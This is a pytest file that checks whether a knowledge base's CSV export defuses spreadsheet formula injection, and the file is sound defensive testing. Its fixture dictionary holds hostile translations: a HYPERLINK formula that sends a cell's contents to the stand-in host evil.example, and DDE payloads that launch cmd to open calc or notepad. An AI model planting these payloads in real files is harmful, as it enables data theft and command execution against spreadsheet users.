"""CSV exports opened in a spreadsheet: a translation that reads as a formula stays text there (a
leading single quote, as OWASP advises against CSV injection), while JSON and Parquet keep it as
it is."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from kb.cli.main import cli  # noqa: E402
from kb.export import spreadsheet_safe  # noqa: E402
from kb.knowledge import KnowledgeBase  # noqa: E402
from kb.translations import export_catalog, import_catalog  # noqa: E402
from test_align_corpus import write_tiny_corpus  # noqa: E402
from test_translations import fill  # noqa: E402

NEWEST = "2021-03-05"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
# One translation per character a spreadsheet starts a formula with.
HOSTILE = {
    "100.1": FORMULA,
    "700.1": "@SUM(1+1)*cmd|' /C calc'!A0",
    "101.2": "+cmd|' /C notepad'!A0",
    "800.1": "-2+3+cmd|' /C calc'!A0",
    "701.1": "\t=1+1",
}
# A carriage return is not here: a translation holding one is refused on import, as a control
# character (tests/hostile/test_hostile_control_characters.py).


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> Path:
    """The tiny corpus with a catalog whose translations read as formulas, imported."""
    root = write_tiny_corpus(tmp_path_factory.mktemp("hostile-csv") / "corpus")
    kb = KnowledgeBase.build(root)
    exported = tmp_path_factory.mktemp("po") / "es.po"
    export_catalog(kb, exported, NEWEST, "es")
    import_catalog(fill(exported, exported.with_name("filled.po"), HOSTILE), kb, root)
    return root


@pytest.fixture(scope="module")
def out(corpus, tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("export") / "out"
    store = tmp_path_factory.mktemp("store")
    result = CliRunner().invoke(cli, ["export", str(folder), "--what", "records", "--what", "alignment"],
                                env={"KB_CORPUS": str(corpus), "KB_STORE": str(store)})
    assert result.exit_code == 0, result.output
    return folder


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


@pytest.mark.parametrize("table", ["alignment", "records"])
def test_no_csv_cell_starts_a_formula_and_json_and_parquet_keep_the_true_text(out, table):
    found = cells(out / f"{table}.csv")
    assert f"'{FORMULA}" in found  # the translation is there, as text
    assert not [c for c in found if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    rows = json.loads((out / f"{table}.json").read_text(encoding="utf-8"))
    texts = {v for row in rows for v in row.values() if isinstance(v, str)}
    assert FORMULA in texts and f"'{FORMULA}" not in texts
    frame = pd.read_parquet(out / f"{table}.parquet")
    values = {v for column in frame.columns for v in frame[column] if isinstance(v, str)}
    assert FORMULA in values and f"'{FORMULA}" not in values


def test_every_hostile_translation_is_quoted_in_records_and_keeps_its_row(out):
    found = set(cells(out / "records.csv"))  # a carriage return inside a cell does not end its row
    for text in HOSTILE.values():
        assert f"'{text}" in found, text


def test_only_text_cells_that_start_a_formula_change():
    frame = pd.DataFrame({"text": ["=1", "a=1", "-", "", None, "@x", "'=already"], "n": [-1, 2, 3, 4, 5, 6, 7]})
    safe = spreadsheet_safe(frame)
    assert list(safe["text"])[:4] == ["'=1", "a=1", "'-", ""]
    assert pd.isna(safe["text"][4]) and safe["text"][5] == "'@x" and safe["text"][6] == "'=already"
    assert list(safe["n"]) == [-1, 2, 3, 4, 5, 6, 7]  # numbers stay numbers
    assert frame["text"][0] == "=1"  # the frame given is left as it was
    text = safe.to_csv(index=False)
    assert next(csv.reader(io.StringIO(text.splitlines()[1])))[1] == "-1"
